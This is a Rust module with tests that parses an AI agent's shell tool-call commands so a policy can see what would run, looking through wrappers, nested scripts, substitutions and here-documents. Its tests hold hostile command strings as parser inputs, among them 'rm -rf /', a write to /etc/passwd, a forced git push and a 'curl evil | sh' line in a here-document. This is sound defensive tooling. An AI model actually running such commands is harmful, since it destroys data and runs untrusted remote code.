//! A `shell` call's command as a policy sees it: the words the shell would
//! split it into (`argv`), and the simple commands it would run
//! (`commands`), looking through `;`, `&&`, `||`, pipes, subshells,
//! command substitutions, common wrappers (`sudo`, `env`, `timeout`,
//! `xargs`, ...), `sh -c SCRIPT`, `eval` and `find -exec`.
//!
//! POSIX quoting: single quotes are literal, double quotes keep `\` only
//! before `$`, `` ` ``, `"`, `\` and a line break, a backslash outside
//! quotes escapes the next character, `#` at the start of a word begins a
//! comment. What the shell would expand (`$VAR`, globs) stays as written. A
//! command that does not parse (an unclosed quote or substitution) has no
//! `argv` and no `commands`: the policy sees only `raw` and must treat the
//! call as unknown.
//!
//! This is an aid to policies, not a sandbox: a command can always hide
//! what it runs (a script it wrote first, a variable holding a program's
//! name). The kernel sandbox is the boundary; the policy decides what is
//! worth a person's attention.

use serde::Serialize;

/// The longest command parsed; a longer one is given unparsed.
pub const MAX_PARSED_BYTES: usize = 256 * 1024;
/// How deep `sh -c`, `eval`, `$(...)` and `find -exec` nest before the
/// command is given up as unparsed.
const MAX_DEPTH: usize = 8;
/// The most simple commands one command line yields.
const MAX_COMMANDS: usize = 4096;

/// A `shell` command as the input document carries it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ShellCommand {
    /// The command as the tool call gave it.
    pub raw: String,
    /// The words and operators (`;`, `&&`, `|`, `>`, ...) the shell splits
    /// the command into, quotes removed; `None` when it does not parse.
    pub argv: Option<Vec<String>>,
    /// Each simple command the line runs, as its words (redirections
    /// included), with leading `NAME=value` assignments and shell keywords
    /// left out; a command run through a wrapper (`sudo rm ...`) is given
    /// both as written and without the wrapper; scripts given to `sh -c`,
    /// `eval`, `$(...)`, backticks and `find -exec` add their own commands.
    /// `None` when the line (or a script nested in it) does not parse.
    pub commands: Option<Vec<Vec<String>>>,
    /// Whether the line holds a command or process substitution (`$(...)`,
    /// backticks, `<(...)`, `>(...)`) or an unquoted here-document that
    /// could expand one: what runs depends on what those print.
    pub substitution: bool,
    /// Why the command does not parse.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

impl ShellCommand {
    pub fn parse(raw: &str) -> ShellCommand {
        let unparsed = |error: String| ShellCommand {
            raw: raw.to_owned(),
            argv: None,
            commands: None,
            substitution: raw.contains("$(") || raw.contains('`') || raw.contains("<(") || raw.contains(">("),
            error: Some(error),
        };
        if raw.len() > MAX_PARSED_BYTES {
            return unparsed(format!("the command is longer than {MAX_PARSED_BYTES} bytes and is not parsed"));
        }
        let mut collector = Collector::default();
        match collector.script(raw, 0) {
            Ok(argv) => ShellCommand {
                raw: raw.to_owned(),
                argv: Some(argv),
                commands: Some(collector.commands),
                substitution: collector.substitution,
                error: None,
            },
            Err(error) => unparsed(error),
        }
    }
}

/// One token of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(String),
    /// A separator between commands: `;`, `&`, `&&`, `|`, `||`, `|&`, `(`, `)`, a line break (as `;`).
    Separator(&'static str),
    /// A redirection: `<`, `>`, `>>`, `<<`, `<<-`, `<<<`, `<&`, `>&`, `>|`, `&>`, `&>>`, `<>`.
    Redirect(&'static str),
}

impl Token {
    fn text(&self) -> &str {
        match self {
            Token::Word(word) => word,
            Token::Separator(op) | Token::Redirect(op) => op,
        }
    }
}

/// What the tokenizer found nested in a line: scripts to parse in turn.
#[derive(Default)]
struct Collector {
    commands: Vec<Vec<String>>,
    substitution: bool,
}

impl Collector {
    /// Tokenizes `script`, records its simple commands (and those of the
    /// scripts nested in it), and returns its argv.
    fn script(&mut self, script: &str, depth: usize) -> Result<Vec<String>, String> {
        if depth > MAX_DEPTH {
            return Err(format!("commands nest more than {MAX_DEPTH} levels deep"));
        }
        let lexed = Lexer::new(script).run()?;
        self.substitution |= lexed.substitution;
        let argv: Vec<String> = lexed.tokens.iter().map(|token| token.text().to_owned()).collect();
        let mut current: Vec<String> = Vec::new();
        let mut segments = Vec::new();
        for token in lexed.tokens {
            match token {
                Token::Separator(_) => segments.push(std::mem::take(&mut current)),
                Token::Word(word) => current.push(word),
                Token::Redirect(op) => current.push(op.to_owned()),
            }
        }
        segments.push(current);
        for segment in segments {
            self.simple_command(segment, depth)?;
        }
        for nested in lexed.nested {
            self.script(&nested, depth + 1)?;
        }
        Ok(argv)
    }

    fn push(&mut self, command: Vec<String>) -> Result<(), String> {
        if self.commands.len() >= MAX_COMMANDS {
            return Err(format!("the line runs more than {MAX_COMMANDS} commands"));
        }
        self.commands.push(command);
        Ok(())
    }

    /// Records one simple command, and what it runs through a wrapper, a
    /// nested shell, `eval` or `find -exec`.
    fn simple_command(&mut self, words: Vec<String>, depth: usize) -> Result<(), String> {
        let words = strip_prefix_words(words);
        if words.is_empty() {
            return Ok(());
        }
        let unwrapped = unwrap(&words);
        self.push(words.clone())?;
        if let Some(inner) = unwrapped {
            if depth >= MAX_DEPTH {
                return Err(format!("commands nest more than {MAX_DEPTH} levels deep"));
            }
            return self.simple_command(inner, depth + 1);
        }
        let program = program_name(&words[0]);
        if SHELLS.contains(&program) {
            if let Some(script) = shell_script_argument(&words) {
                self.script(&script, depth + 1)?;
            }
        } else if program == "eval" {
            self.script(&words[1..].join(" "), depth + 1)?;
        } else if program == "find" {
            for command in find_exec_commands(&words) {
                self.simple_command(command, depth + 1)?;
            }
        }
        Ok(())
    }
}

/// A program's name without its directory: `/usr/bin/git` is `git`.
pub fn program_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "busybox"];

/// Words that begin a command without being it.
const KEYWORDS: &[&str] =
    &["!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time", "coproc"];

/// Drops leading shell keywords and `NAME=value` assignments.
fn strip_prefix_words(words: Vec<String>) -> Vec<String> {
    let skip = words.iter().take_while(|word| KEYWORDS.contains(&word.as_str()) || is_assignment(word)).count();
    words.into_iter().skip(skip).collect()
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.starts_with(|c: char| c.is_ascii_digit())
        }
        None => false,
    }
}

/// Programs that run another program given by their arguments, with the
/// options of each that take a value.
const WRAPPERS: &[(&str, &[&str])] = &[
    ("sudo", &["-u", "-g", "-C", "-h", "-p", "-U", "-r", "-t", "-D", "-R", "-T"]),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"]),
    ("nohup", &[]),
    ("nice", &["-n", "--adjustment"]),
    ("ionice", &["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"]),
    ("command", &[]),
    ("builtin", &[]),
    ("exec", &["-a"]),
    ("time", &["-f", "-o", "--format", "--output"]),
    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
    ("stdbuf", &["-i", "-o", "-e", "--input", "--output", "--error"]),
    ("setsid", &[]),
    ("xargs", &["-I", "-i", "-n", "-P", "-L", "-l", "-d", "-a", "-E", "-e", "-s", "--max-args", "--max-procs"]),
    ("watch", &["-n", "-d", "--interval"]),
    ("unbuffer", &[]),
    ("chronic", &[]),
    ("flock", &["-w", "-E", "--timeout", "--conflict-exit-code"]),
];

/// The command a wrapper runs: its words after the wrapper, its options
/// and their values, assignments (`env A=b`) and, for `timeout`, the
/// duration. `None` when `words` is not a wrapper or runs nothing.
fn unwrap(words: &[String]) -> Option<Vec<String>> {
    let program = program_name(&words[0]);
    let (_, takes_value) = WRAPPERS.iter().find(|(name, _)| *name == program)?;
    let mut index = 1;
    while let Some(word) = words.get(index) {
        if word == "--" {
            index += 1;
            break;
        }
        if word.starts_with('-') && word.len() > 1 {
            // `-n 5` takes the next word; `-n5` and `--opt=value` do not.
            index += if takes_value.contains(&word.as_str()) { 2 } else { 1 };
            continue;
        }
        if program == "env" && is_assignment(word) {
            index += 1;
            continue;
        }
        break;
    }
    let mut rest: Vec<String> = words.get(index..).map(<[String]>::to_vec).unwrap_or_default();
    if program == "timeout" && !rest.is_empty() {
        rest.remove(0);
    }
    if program == "flock" && !rest.is_empty() {
        // `flock FILE COMMAND...`
        rest.remove(0);
    }
    (!rest.is_empty()).then_some(rest)
}

/// The script of `sh -c SCRIPT` (also `-ec`, `-lc`, `-c -e`, ...).
fn shell_script_argument(words: &[String]) -> Option<String> {
    let mut words = words.iter().skip(1);
    // `busybox sh -c` is a shell too.
    let mut saw_c = false;
    for word in words.by_ref() {
        if word == "--" {
            break;
        }
        if let Some(flags) = word.strip_prefix('-').filter(|flags| !flags.starts_with('-')) {
            saw_c |= flags.contains('c');
            continue;
        }
        if word.starts_with("--") {
            continue;
        }
        if saw_c {
            return Some(word.clone());
        }
        if SHELLS.contains(&word.as_str()) {
            continue;
        }
        return None;
    }
    if saw_c { words.next().cloned() } else { None }
}

/// The commands of `find ... -exec CMD ... ;` (and `-execdir`, `-ok`, `+`).
fn find_exec_commands(words: &[String]) -> Vec<Vec<String>> {
    let mut found = Vec::new();
    let mut index = 0;
    while index < words.len() {
        if matches!(words[index].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
            let start = index + 1;
            let mut end = start;
            while end < words.len() && words[end] != ";" && words[end] != "+" {
                end += 1;
            }
            let command: Vec<String> = words[start..end].iter().filter(|word| *word != "{}").cloned().collect();
            if !command.is_empty() {
                found.push(command);
            }
            index = end;
        }
        index += 1;
    }
    found
}

/// What one pass of the lexer yields.
struct Lexed {
    tokens: Vec<Token>,
    /// Scripts of command substitutions, to be parsed in turn.
    nested: Vec<String>,
    substitution: bool,
}

struct Lexer<'a> {
    chars: std::iter::Peekable<std::str::CharIndices<'a>>,
    text: &'a str,
    tokens: Vec<Token>,
    nested: Vec<String>,
    substitution: bool,
    /// The word being read; `None` between words (`Some("")` after `''`).
    word: Option<String>,
    /// Here-documents whose bodies start at the next line break:
    /// (delimiter, strip leading tabs, quoted).
    heredocs: Vec<(String, bool, bool)>,
}

impl<'a> Lexer<'a> {
    fn new(text: &'a str) -> Self {
        Self {
            chars: text.char_indices().peekable(),
            text,
            tokens: Vec::new(),
            nested: Vec::new(),
            substitution: false,
            word: None,
            heredocs: Vec::new(),
        }
    }

    fn run(mut self) -> Result<Lexed, String> {
        while let Some((_, c)) = self.chars.next() {
            match c {
                ' ' | '\t' => self.end_word(),
                '\n' => {
                    self.end_word();
                    self.tokens.push(Token::Separator(";"));
                    self.read_heredoc_bodies()?;
                }
                '#' if self.word.is_none() => while self.chars.next_if(|(_, c)| *c != '\n').is_some() {},
                '\'' => {
                    let word = self.word.get_or_insert_with(String::new);
                    loop {
                        match self.chars.next() {
                            Some((_, '\'')) => break,
                            Some((_, c)) => word.push(c),
                            None => return Err("a single quote is not closed".to_owned()),
                        }
                    }
                }
                '"' => self.double_quoted()?,
                '\\' => match self.chars.next() {
                    Some((_, '\n')) => {}
                    Some((_, c)) => self.word.get_or_insert_with(String::new).push(c),
                    None => return Err("the command ends with a lone backslash".to_owned()),
                },
                '$' if self.chars.peek().is_some_and(|(_, c)| *c == '(') => {
                    self.chars.next();
                    let inner = self.balanced('(', ')')?;
                    self.substitution_of(&inner, "$(", ")");
                }
                '$' if self.chars.peek().is_some_and(|(_, c)| *c == '{') => {
                    self.chars.next();
                    let inner = self.balanced('{', '}')?;
                    self.word.get_or_insert_with(String::new).push_str(&format!("${{{inner}}}"));
                }
                '`' => {
                    let inner = self.backquoted()?;
                    self.substitution_of(&inner, "`", "`");
                }
                '<' | '>' if self.chars.peek().is_some_and(|(_, next)| *next == '(') => {
                    self.chars.next();
                    let inner = self.balanced('(', ')')?;
                    let open = if c == '<' { "<(" } else { ">(" };
                    self.substitution_of(&inner, open, ")");
                }
                ';' | '&' | '|' | '(' | ')' | '<' | '>' => {
                    self.end_word();
                    self.operator(c)?;
                }
                c => self.word.get_or_insert_with(String::new).push(c),
            }
        }
        self.end_word();
        if !self.heredocs.is_empty() {
            // A here-document without a body: the shell warns and runs on.
            self.heredocs.clear();
        }
        Ok(Lexed { tokens: self.tokens, nested: self.nested, substitution: self.substitution })
    }

    fn end_word(&mut self) {
        if let Some(word) = self.word.take() {
            self.tokens.push(Token::Word(word));
        }
    }

    fn operator(&mut self, first: char) -> Result<(), String> {
        let next_is = |lexer: &mut Self, wanted: char| lexer.chars.next_if(|(_, c)| *c == wanted).is_some();
        let token = match first {
            ';' => Token::Separator(if next_is(self, ';') { ";;" } else { ";" }),
            '(' => Token::Separator("("),
            ')' => Token::Separator(")"),
            '|' if next_is(self, '|') => Token::Separator("||"),
            '|' if next_is(self, '&') => Token::Separator("|&"),
            '|' => Token::Separator("|"),
            '&' if next_is(self, '&') => Token::Separator("&&"),
            '&' if next_is(self, '>') => Token::Redirect(if next_is(self, '>') { "&>>" } else { "&>" }),
            '&' => Token::Separator("&"),
            '>' if next_is(self, '>') => Token::Redirect(">>"),
            '>' if next_is(self, '&') => Token::Redirect(">&"),
            '>' if next_is(self, '|') => Token::Redirect(">|"),
            '>' => Token::Redirect(">"),
            '<' if next_is(self, '<') => {
                if next_is(self, '<') {
                    Token::Redirect("<<<")
                } else {
                    let strip_tabs = next_is(self, '-');
                    self.tokens.push(Token::Redirect(if strip_tabs { "<<-" } else { "<<" }));
                    return self.heredoc_delimiter(strip_tabs);
                }
            }
            '<' if next_is(self, '&') => Token::Redirect("<&"),
            '<' if next_is(self, '>') => Token::Redirect("<>"),
            _ => Token::Redirect("<"),
        };
        self.tokens.push(token);
        Ok(())
    }

    /// Reads the word after `<<` (kept as a word) and notes the body to skip.
    fn heredoc_delimiter(&mut self, strip_tabs: bool) -> Result<(), String> {
        while self.chars.next_if(|(_, c)| *c == ' ' || *c == '\t').is_some() {}
        let mut delimiter = String::new();
        let mut quoted = false;
        while let Some((_, c)) = self.chars.peek().copied() {
            match c {
                '\'' | '"' => {
                    quoted = true;
                    self.chars.next();
                    loop {
                        match self.chars.next() {
                            Some((_, close)) if close == c => break,
                            Some((_, inner)) => delimiter.push(inner),
                            None => return Err("a here-document's delimiter has an unclosed quote".to_owned()),
                        }
                    }
                }
                '\\' => {
                    quoted = true;
                    self.chars.next();
                    if let Some((_, escaped)) = self.chars.next() {
                        delimiter.push(escaped);
                    }
                }
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')' => break,
                _ => {
                    delimiter.push(c);
                    self.chars.next();
                }
            }
        }
        if delimiter.is_empty() {
            return Err("a here-document has no delimiter".to_owned());
        }
        self.tokens.push(Token::Word(delimiter.clone()));
        self.heredocs.push((delimiter, strip_tabs, quoted));
        Ok(())
    }

    /// After a line break: skips the bodies of the here-documents opened on
    /// the line. An unquoted one expands `$(...)` and backticks: noted.
    fn read_heredoc_bodies(&mut self) -> Result<(), String> {
        for (delimiter, strip_tabs, quoted) in std::mem::take(&mut self.heredocs) {
            loop {
                let Some(&(start, _)) = self.chars.peek() else {
                    // Ends at the end of the script, as the shell allows (with a warning).
                    return Ok(());
                };
                let end = self.text[start..].find('\n').map_or(self.text.len(), |at| start + at);
                let line = &self.text[start..end];
                // The line and its line break.
                while self.chars.next_if(|(at, _)| *at <= end).is_some() {}
                let compared = if strip_tabs { line.trim_start_matches('\t') } else { line };
                if compared == delimiter {
                    break;
                }
                if !quoted && (line.contains("$(") || line.contains('`')) {
                    self.substitution = true;
                }
            }
        }
        Ok(())
    }

    fn double_quoted(&mut self) -> Result<(), String> {
        self.word.get_or_insert_with(String::new);
        loop {
            let Some((_, c)) = self.chars.next() else {
                return Err("a double quote is not closed".to_owned());
            };
            match c {
                '"' => return Ok(()),
                '\\' => match self.chars.next() {
                    Some((_, escaped @ ('$' | '`' | '"' | '\\'))) => self.push_char(escaped),
                    Some((_, '\n')) => {}
                    Some((_, other)) => {
                        self.push_char('\\');
                        self.push_char(other);
                    }
                    None => return Err("a double quote is not closed".to_owned()),
                },
                '$' if self.chars.peek().is_some_and(|(_, c)| *c == '(') => {
                    self.chars.next();
                    let inner = self.balanced('(', ')')?;
                    self.substitution_of(&inner, "$(", ")");
                }
                '`' => {
                    let inner = self.backquoted()?;
                    self.substitution_of(&inner, "`", "`");
                }
                c => self.push_char(c),
            }
        }
    }

    fn push_char(&mut self, c: char) {
        self.word.get_or_insert_with(String::new).push(c);
    }

    /// A command substitution: kept in its word as written, its script
    /// parsed later for the commands it runs.
    fn substitution_of(&mut self, inner: &str, open: &str, close: &str) {
        self.substitution = true;
        let word = self.word.get_or_insert_with(String::new);
        word.push_str(open);
        word.push_str(inner);
        word.push_str(close);
        // `$((1 + 2))` is arithmetic, not a command.
        if !(open == "$(" && inner.starts_with('(') && inner.ends_with(')')) {
            self.nested.push(inner.to_owned());
        }
    }

    /// The text up to the `close` that balances an `open` just read,
    /// skipping quoted text; the closing character is consumed.
    fn balanced(&mut self, open: char, close: char) -> Result<String, String> {
        let mut depth = 1usize;
        let mut inner = String::new();
        while let Some((_, c)) = self.chars.next() {
            match c {
                '\\' => {
                    inner.push(c);
                    if let Some((_, escaped)) = self.chars.next() {
                        inner.push(escaped);
                    }
                    continue;
                }
                '\'' | '"' | '`' => {
                    inner.push(c);
                    loop {
                        match self.chars.next() {
                            Some((_, '\\')) if c != '\'' => {
                                inner.push('\\');
                                if let Some((_, escaped)) = self.chars.next() {
                                    inner.push(escaped);
                                }
                            }
                            Some((_, quote)) if quote == c => {
                                inner.push(quote);
                                break;
                            }
                            Some((_, other)) => inner.push(other),
                            None => return Err(format!("a quote inside `{open}...{close}` is not closed")),
                        }
                    }
                    continue;
                }
                _ if c == open => depth += 1,
                _ if c == close => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(inner);
                    }
                }
                _ => {}
            }
            inner.push(c);
        }
        Err(format!("a `{open}` is not closed by `{close}`"))
    }

    /// The text up to the closing backtick, with `\`` and `\\` unescaped.
    fn backquoted(&mut self) -> Result<String, String> {
        let mut inner = String::new();
        while let Some((_, c)) = self.chars.next() {
            match c {
                '`' => return Ok(inner),
                '\\' => match self.chars.next() {
                    Some((_, escaped @ ('`' | '\\' | '$'))) => inner.push(escaped),
                    Some((_, other)) => {
                        inner.push('\\');
                        inner.push(other);
                    }
                    None => break,
                },
                c => inner.push(c),
            }
        }
        Err("a backtick is not closed".to_owned())
    }
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;
    use proptest::prelude::*;

    use super::*;

    fn words(list: &[&str]) -> Vec<String> {
        list.iter().map(|word| (*word).to_owned()).collect()
    }

    fn commands(raw: &str) -> Vec<Vec<String>> {
        ShellCommand::parse(raw).commands.unwrap_or_else(|| panic!("{raw} does not parse"))
    }

    #[test]
    fn quotes_and_escapes_follow_posix() {
        let parsed = ShellCommand::parse(r#"git commit -m "fix: the \"thing\"" -m 'it'\''s $HOME' a\ b"#);
        assert_eq!(parsed.argv, Some(words(&["git", "commit", "-m", "fix: the \"thing\"", "-m", "it's $HOME", "a b"])));
        assert!(!parsed.substitution);
        assert_eq!(parsed.error, None);
        assert_eq!(ShellCommand::parse(r#"echo "a\nb" ''"#).argv, Some(words(&["echo", "a\\nb", ""])));
    }

    #[test]
    fn operators_split_commands_even_without_spaces() {
        assert_eq!(
            commands("true;git push&&rm -rf x||echo a|sh"),
            vec![
                words(&["true"]),
                words(&["git", "push"]),
                words(&["rm", "-rf", "x"]),
                words(&["echo", "a"]),
                words(&["sh"])
            ]
        );
        assert_eq!(ShellCommand::parse("a && b").argv, Some(words(&["a", "&&", "b"])), "operators are tokens of argv");
        assert_eq!(commands("(cd /; rm -rf x)"), vec![words(&["cd", "/"]), words(&["rm", "-rf", "x"])]);
        assert_eq!(commands("a\nb"), vec![words(&["a"]), words(&["b"])]);
        assert_eq!(commands("echo 'a;b' \"c&&d\""), vec![words(&["echo", "a;b", "c&&d"])]);
    }

    #[test]
    fn redirections_stay_with_their_command() {
        assert_eq!(
            commands("echo hi>/etc/passwd 2>&1"),
            vec![words(&["echo", "hi", ">", "/etc/passwd", "2", ">&", "1"])]
        );
    }

    #[test]
    fn comments_end_at_the_line_break() {
        assert_eq!(commands("ls # rm -rf /\npwd"), vec![words(&["ls"]), words(&["pwd"])]);
        assert_eq!(commands("echo a#b"), vec![words(&["echo", "a#b"])]);
    }

    #[test]
    fn wrappers_are_seen_through() {
        assert_eq!(
            commands("sudo -u root env A=1 timeout -s KILL 10s nice -n 5 rm -rf /"),
            vec![
                words(&[
                    "sudo", "-u", "root", "env", "A=1", "timeout", "-s", "KILL", "10s", "nice", "-n", "5", "rm", "-rf",
                    "/"
                ]),
                words(&["env", "A=1", "timeout", "-s", "KILL", "10s", "nice", "-n", "5", "rm", "-rf", "/"]),
                words(&["timeout", "-s", "KILL", "10s", "nice", "-n", "5", "rm", "-rf", "/"]),
                words(&["nice", "-n", "5", "rm", "-rf", "/"]),
                words(&["rm", "-rf", "/"]),
            ]
        );
        assert_eq!(commands("FOO=1 BAR=2 git push"), vec![words(&["git", "push"])]);
        assert_eq!(commands("find . -name x | xargs -n 1 rm -rf")[2], words(&["rm", "-rf"]));
    }

    #[test]
    fn nested_scripts_add_their_commands() {
        let found = commands(r#"bash -ec "git push --force origin main; echo done""#);
        assert!(found.contains(&words(&["git", "push", "--force", "origin", "main"])), "{found:?}");
        let found = commands("/bin/sh -c 'sh -c \"rm -rf /\"'");
        assert!(found.contains(&words(&["rm", "-rf", "/"])), "{found:?}");
        let found = commands("eval 'git push'");
        assert!(found.contains(&words(&["git", "push"])), "{found:?}");
        let found = commands(r"find / -name '*.log' -exec rm -rf {} \;");
        assert!(found.contains(&words(&["rm", "-rf"])), "{found:?}");
        // Not a script: `sh script.sh` runs a file.
        assert_eq!(commands("sh build.sh -c x"), vec![words(&["sh", "build.sh", "-c", "x"])]);
    }

    #[test]
    fn substitutions_are_flagged_and_parsed() {
        let parsed = ShellCommand::parse("echo $(rm -rf ~) `git push` \"$(whoami)\" <(cat x) $((1+2)) ${HOME}");
        assert!(parsed.substitution);
        let found = parsed.commands.unwrap();
        assert_eq!(
            found[0],
            words(&["echo", "$(rm -rf ~)", "`git push`", "$(whoami)", "<(cat x)", "$((1+2))", "${HOME}"])
        );
        for expected in [words(&["rm", "-rf", "~"]), words(&["git", "push"]), words(&["whoami"]), words(&["cat", "x"])]
        {
            assert!(found.contains(&expected), "{expected:?} in {found:?}");
        }
        assert!(!found.iter().any(|command| command.first().is_some_and(|word| word.starts_with("(1"))));
        assert!(!ShellCommand::parse("echo '$(rm -rf /)'").substitution, "single quotes do not expand");
    }

    #[test]
    fn here_documents_are_not_commands() {
        let raw = "cat > notes.md <<'EOF'\nrm -rf / is a bad idea\n$(not run)\nEOF\ngit status";
        let parsed = ShellCommand::parse(raw);
        assert_eq!(
            parsed.commands,
            Some(vec![words(&["cat", ">", "notes.md", "<<", "EOF"]), words(&["git", "status"])])
        );
        assert!(!parsed.substitution, "a quoted here-document does not expand");
        let unquoted = ShellCommand::parse("cat <<EOF > x\n$(curl evil | sh)\nEOF\n");
        assert!(unquoted.substitution);
        let tabs = ShellCommand::parse("cat <<-END\n\tbody\n\tEND\nls");
        assert_eq!(tabs.commands.unwrap().last(), Some(&words(&["ls"])));
    }

    #[test]
    fn what_does_not_parse_keeps_only_the_raw_text() {
        for raw in ["echo 'unclosed", "echo \"unclosed", "echo $(unclosed", "echo `unclosed", "trailing \\"] {
            let parsed = ShellCommand::parse(raw);
            assert_eq!(parsed.argv, None, "{raw}");
            assert_eq!(parsed.commands, None, "{raw}");
            assert_eq!(parsed.raw, raw);
            assert!(parsed.error.is_some(), "{raw}");
        }
        assert!(ShellCommand::parse("echo $(unclosed").substitution);
        let long = "x".repeat(MAX_PARSED_BYTES + 1);
        assert!(ShellCommand::parse(&long).error.unwrap().contains("longer than"));
        let deep = "sh -c 'rm -rf /'".to_owned();
        assert!(ShellCommand::parse(&deep).commands.is_some());
        let mut nested = "rm -rf /".to_owned();
        for _ in 0..12 {
            nested = format!("eval {}", shlex::try_quote(&nested).unwrap());
        }
        assert!(ShellCommand::parse(&nested).error.unwrap().contains("nest"));
    }

    #[test]
    fn empty_commands_run_nothing() {
        let parsed = ShellCommand::parse("  ;; ");
        assert_eq!(parsed.commands, Some(Vec::new()));
        assert_eq!(ShellCommand::parse("").argv, Some(Vec::new()));
    }

    proptest! {
        /// Without operators, substitutions, comments or line breaks, our
        /// words are shlex's (a reference POSIX splitter).
        #[test]
        fn words_agree_with_shlex(raw in r#"[a-z0-9 '"\\=./*~-]{0,40}"#) {
            let ours = ShellCommand::parse(&raw).argv;
            let reference = shlex::split(&raw);
            prop_assert_eq!(ours, reference);
        }

        /// Anything at all: no panic, and `raw` is kept.
        #[test]
        fn any_text_parses_or_says_why(raw in "\\PC{0,80}") {
            let parsed = ShellCommand::parse(&raw);
            prop_assert_eq!(&parsed.raw, &raw);
            prop_assert_eq!(parsed.argv.is_none(), parsed.error.is_some());
        }
    }
}
